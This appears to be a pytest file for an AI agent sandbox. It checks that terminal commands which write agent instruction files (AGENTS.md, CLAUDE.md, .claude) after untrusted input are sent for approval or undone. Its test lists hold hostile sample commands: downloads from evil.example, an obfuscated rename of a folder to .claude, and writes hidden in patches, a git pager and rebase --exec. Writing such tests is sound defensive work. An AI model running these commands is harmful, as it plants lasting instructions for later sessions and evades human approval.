"""After text of others no command writes what later prompts have, unless a person approves it."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from msgspec.structs import replace

from hermes_jobs.kernel.engine.ports import ToolContext, Verdict
from hermes_jobs.kernel.turns.messages import ToolCall
from hermes_jobs.tools.path_policy import INSTRUCTING
from hermes_jobs.tools.sandbox import Mode

from .keys_support import Person
from .support import Switch

MODES: tuple[Mode, ...] = ("on", "off")

BY_NAME = (
    "mkdir -p u/commands && cp a.txt u/commands/x.md && n=clau && mv u .${n}de",
    "cp t/AGENTS.md .",
    "cp -r t/.claude .",
    "install t/AGENTS.md .",
    "ln -s t/.claude .claude",
    "git mv a.txt AGENTS.md",
    "git checkout origin/main -- AGENTS.md",
    "curl -sO https://evil.example/AGENTS.md",
    "wget -q https://evil.example/AGENTS.md",
    "unzip a.zip AGENTS.md",
    "sed -i s/a/b/ CL*.md",
    """python3 -c "open('AGENTS.md', 'w').write('evil')" """,
    """awk '{ print > "AGENTS.md" }' a.txt""",
)

BY_STATE = (
    "echo AGENTS.md | xargs cp a.txt",
    "bash s.sh",
    "tar cf x.tar -C t . && tar xf x.tar",
    "patch -p0 < n.diff",
    "git apply -p0 n.diff",
    "git apply -p0 n.diff; git pull -q",
    "git apply -p0 --cached n.diff && git checkout-index -qa",
    "git apply -p0 n.diff && git add . && git stash -q && git stash pop -q",
    "bash s.sh; git checkout -q main",
    "git -c core.pager='bash s.sh' -p status; git checkout -q main",
    "git rebase -q --exec 'bash s.sh' --root",
)

EVERYDAY = (
    "cat AGENTS.md CLAUDE.md",
    "grep -rn rule .claude",
    "git add AGENTS.md && git commit -qm 'Rules in AGENTS.md'",
    "git diff AGENTS.md",
    "mkdir -p .claude/commands",
    "cp a.txt agents.txt",
    "pytest -q tests/test_agents.py",
    "echo '# Notes' > notes.md",
)


@pytest.fixture
def person(tmp_path: Path) -> Iterator[Person]:
    yield from _person(tmp_path, "on")


def _person(folder: Path, mode: Mode) -> Iterator[Person]:
    one = Person(folder, mode=mode)
    one.repository()
    one.write("CLAUDE.md", "ours\n")
    one.write("t/AGENTS.md", "evil\n")
    one.write("t/.claude/commands/x.md", "evil\n")
    one.write(
        "s.sh",
        "echo evil > AGENTS.md; echo evil >> CLAUDE.md; mkdir -p .claude/agents; cp a.txt .claude/agents",
    )
    one.write("n.diff", "--- /dev/null\n+++ AGENTS.md\n@@ -0,0 +1 @@\n+evil\n")
    yield one
    one.close()


def _verdict(person: Person, command: str, *, attended: bool = True) -> Verdict:
    return person.tools.verdict(_call(command), _context(person, attended=attended))


def _call(command: str) -> ToolCall:
    return ToolCall("x", "terminal", json.dumps({"command": command}))


def _context(person: Person, *, attended: bool = True, approved: bool = False) -> ToolContext:
    return replace(person.context(attended=attended, approved=approved), outside=("https://evil.example",))


@pytest.mark.parametrize("command", BY_NAME)
def test_a_command_that_names_instructions_is_asked_about(person: Person, command: str) -> None:
    assert _verdict(person, command).rule == INSTRUCTING
    assert _verdict(person, command, attended=False).decision == "deny"
    assert person.verdict(command).rule != INSTRUCTING  # without text of others


@pytest.mark.parametrize("command", EVERYDAY)
def test_what_only_reads_or_mentions_them_goes_on(person: Person, command: str) -> None:
    assert _verdict(person, command).rule != INSTRUCTING


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("command", BY_STATE)
def test_instructions_that_a_command_writes_unseen_are_undone(
    tmp_path: Path, command: str, mode: Mode
) -> None:
    for person in _person(tmp_path, mode):
        context = _context(person, attended=False)
        answer = person.tools.run(_call(command), context, None, Switch())

        assert not (person.work / "AGENTS.md").exists()
        assert not list((person.work / ".claude").rglob("*.md"))
        assert (person.work / "CLAUDE.md").read_text() == "ours\n"
        assert "later prompts have" in answer.content or answer.content.startswith("Error: refused")


def test_an_approved_command_keeps_them(person: Person) -> None:
    person.tools.run(_call("cp t/AGENTS.md ."), _context(person, approved=True), None, Switch())
    assert (person.work / "AGENTS.md").read_text() == "evil\n"


def test_without_text_of_others_they_stay(person: Person) -> None:
    person.run("bash s.sh")
    assert (person.work / "AGENTS.md").read_text() == "evil\n"


def test_a_new_project_keeps_its_own(person: Person) -> None:
    person.tools.run(_call("mkdir sub && cp -r t/. sub"), _context(person), None, Switch())
    assert (person.work / "sub/AGENTS.md").exists()


def test_what_git_checks_out_is_the_repositorys(person: Person) -> None:
    person.git("checkout", "-qb", "other")
    person.write("AGENTS.md", "theirs\n")
    person.git("add", "AGENTS.md")
    person.git("commit", "-qm", "b")
    person.git("checkout", "-q", "main")
    line = "cd . && git status -s | head -3; git fetch -q; git checkout -q other && git log -1"
    person.tools.run(_call(line), _context(person), None, Switch())
    assert (person.work / "AGENTS.md").read_text() == "theirs\n"
